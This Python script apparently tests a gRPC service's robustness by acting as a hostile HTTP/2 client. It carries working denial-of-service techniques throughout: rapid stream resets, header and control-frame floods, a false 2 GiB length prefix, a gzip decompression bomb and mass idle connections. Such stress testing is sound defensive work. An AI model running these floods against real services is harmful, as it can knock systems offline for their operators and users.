#!/usr/bin/env python3
"""What a hostile HTTP/2 client sends, frame by frame; prints one JSON object with what came of it.

  h2_flood.py TARGET reset 10000      opens a call with its whole request and resets it, so many times
  h2_flood.py TARGET headers 20000    one call with so many bytes of metadata
  h2_flood.py TARGET ping 20000       so many PING frames;  settings: SETTINGS frames;  empty: empty DATA frames
  h2_flood.py TARGET length 100       100 MiB of a message whose prefix says 2 GiB, as flow control lets them pass
  h2_flood.py TARGET compressed       a message of 64 MiB of zeros, sent as 64 kB of gzip
  h2_flood.py TARGET idle 1000        so many connections that say nothing, held until standard input closes

TARGET is unix:/path or host:port; --ca FILE makes it TLS, --key FILE presents an API key.
"""
import argparse
import gzip
import json
import pathlib
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

METHOD = "/tenon.v1.GenerationService/GenerateOnce"


class Connection:
    """One HTTP/2 connection and the ends of its streams."""

    def __init__(self, args):
        self.args = args
        if args.target.startswith("unix:"):
            raw = socket.socket(socket.AF_UNIX)
            raw.connect(args.target[5:])
        else:
            host, port = args.target.rsplit(":", 1)
            raw = socket.create_connection((host, int(port)))
        if args.ca:
            context = ssl.create_default_context(cafile=args.ca)
            context.set_alpn_protocols(["h2"])
            raw = context.wrap_socket(raw, server_hostname="127.0.0.1")
        self.socket = raw
        self.socket.settimeout(5)
        config = h2.config.H2Configuration(header_encoding="utf-8", validate_outbound_headers=False)
        self.h2 = h2.connection.H2Connection(config)
        self.h2.initiate_connection()
        self.ends = {}  # stream -> (http status, grpc status) or "reset"
        self.open = True
        self.flush()

    def settle(self):
        """Takes the server's settings and acknowledges them, as a client that is in no hurry does."""
        self.take(1)
        self.take(0.2)

    def headers(self, more=()):
        headers = [(":method", "POST"), (":scheme", "https" if self.args.ca else "http"), (":path", METHOD),
                   (":authority", "tenon"), ("content-type", "application/grpc"), ("te", "trailers")]
        if self.args.key:
            headers.append(("authorization", "Bearer " + pathlib.Path(self.args.key).read_text().strip()))
        return headers + list(more)

    def flush(self):
        data = self.h2.data_to_send()
        if data and self.open:
            try:
                self.socket.sendall(data)
            except OSError:
                self.open = False

    def take(self, timeout):
        """Reads what has come within `timeout` seconds."""
        self.socket.settimeout(timeout)
        try:
            data = self.socket.recv(65536)
        except (TimeoutError, socket.timeout, ssl.SSLWantReadError):
            return False
        except OSError:
            data = b""
        if not data:
            self.open = False
            return False
        try:
            events = self.h2.receive_data(data)
        except h2.exceptions.ProtocolError:
            self.open = False
            return False
        for event in events:
            if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                found = dict(event.headers)
                known = self.ends.get(event.stream_id, {})
                for name in (":status", "grpc-status"):
                    if name in found:
                        known[name] = found[name]
                self.ends[event.stream_id] = known
            elif isinstance(event, h2.events.StreamReset):
                self.ends[event.stream_id] = {"reset": int(event.error_code)}
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.open = False
        self.flush()
        return True

    def finish(self, stream, seconds=10):
        """The end of one stream."""
        until = time.monotonic() + seconds
        while self.open and time.monotonic() < until:
            end = self.ends.get(stream, {})
            if "grpc-status" in end or "reset" in end or end.get(":status", "200") != "200":
                return end
            self.take(0.2)
        return self.ends.get(stream) or {"connection": "open" if self.open else "closed"}


def message(payload, compressed=False):
    return struct.pack(">BI", int(compressed), len(payload)) + payload


def reset(args):
    done = connections = 0
    connection = None
    begin = time.monotonic()
    while done < args.count and connections < 2000:
        if connection is None or not connection.open:
            connection = Connection(args)
            connections += 1
        try:
            for _ in range(min(20, args.count - done)):
                stream = connection.h2.get_next_available_stream_id()
                connection.h2.send_headers(stream, connection.headers())
                if connection.h2.local_flow_control_window(stream) > 1000:
                    connection.h2.send_data(stream, message(args.request), end_stream=True)
                connection.h2.reset_stream(stream, 8)
                done += 1
            connection.flush()
            connection.take(0.0005)
        except h2.exceptions.ProtocolError:
            connection.open = False
    return {"streams": done, "connections": connections, "seconds": round(time.monotonic() - begin, 2)}


def headers(args):
    connection = Connection(args)
    if not args.hasty:
        connection.settle()
    stream = connection.h2.get_next_available_stream_id()
    filler = [(f"x-filler-{i}", "a" * 1000) for i in range(args.count // 1000)]
    connection.h2.send_headers(stream, connection.headers(filler))
    connection.h2.send_data(stream, message(args.request), end_stream=True)
    connection.flush()
    return connection.finish(stream)


def frames(args):
    """Control frames that ask for an answer each, without reading the answers at first."""
    connection = Connection(args)
    sent = 0
    stream = None
    if args.what == "empty":
        stream = connection.h2.get_next_available_stream_id()
        connection.h2.send_headers(stream, connection.headers())
    while sent < args.count and connection.open:
        if args.what == "ping":
            connection.h2.ping(struct.pack(">Q", sent))
        elif args.what == "settings":
            connection.flush()
            frame = struct.pack(">HBBBI", 0, 0, 4, 0, 0)
            try:
                connection.socket.sendall(frame * 100)
            except OSError:
                connection.open = False
            sent += 99
        else:
            connection.h2.send_data(stream, b"")
        sent += 1
        if sent % 1000 == 0:
            connection.flush()
    connection.flush()
    until = time.monotonic() + 2
    while connection.open and time.monotonic() < until and connection.take(0.5):
        pass
    return {"frames": sent, "connection": "open" if connection.open else "closed"}


def length(args):
    connection = Connection(args)
    connection.settle()
    stream = connection.h2.get_next_available_stream_id()
    connection.h2.send_headers(stream, connection.headers())
    connection.h2.send_data(stream, struct.pack(">BI", 0, 1 << 31))
    sent = 0
    until = time.monotonic() + 10
    while connection.open and stream not in connection.ends and sent < args.count << 20 and time.monotonic() < until:
        room = min(16000, connection.h2.local_flow_control_window(stream))
        if room > 0:
            connection.h2.send_data(stream, b"x" * room)
            sent += room
            connection.flush()
        connection.take(0.001 if room > 0 else 0.2)
    end = connection.ends.get(stream, {})
    return {"sent_mib": sent >> 20, **end}


def compressed(args):
    connection = Connection(args)
    stream = connection.h2.get_next_available_stream_id()
    connection.h2.send_headers(stream, connection.headers([("grpc-encoding", "gzip")]))
    rest = message(gzip.compress(b"\0" * (64 << 20), 9), compressed=True)
    while rest and connection.open:
        connection.take(0.01)
        room = min(16000, connection.h2.local_flow_control_window(stream), len(rest))
        if room > 0:
            try:
                connection.h2.send_data(stream, rest[:room], end_stream=room == len(rest))
            except h2.exceptions.ProtocolError:
                break
            rest = rest[room:]
            connection.flush()
        if stream in connection.ends:
            break
    return connection.finish(stream)


def idle(args):
    connections = [Connection(args) for _ in range(args.count)]
    print(json.dumps({"connections": len(connections)}), flush=True)
    sys.stdin.read()
    return {"held": sum(c.open for c in connections)}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("what", choices=["reset", "headers", "ping", "settings", "empty", "length", "compressed", "idle"])
    parser.add_argument("count", type=int, nargs="?", default=1)
    parser.add_argument("--hasty", action="store_true", help="headers: without acknowledging the server's settings")
    parser.add_argument("--ca")
    parser.add_argument("--key")
    parser.add_argument("--request", type=bytes.fromhex, default=b"", help="the message, in hex")
    args = parser.parse_args()
    run = {"reset": reset, "headers": headers, "ping": frames, "settings": frames, "empty": frames, "length": length,
           "compressed": compressed, "idle": idle}[args.what]
    print(json.dumps(run(args)), flush=True)


if __name__ == "__main__":
    main()
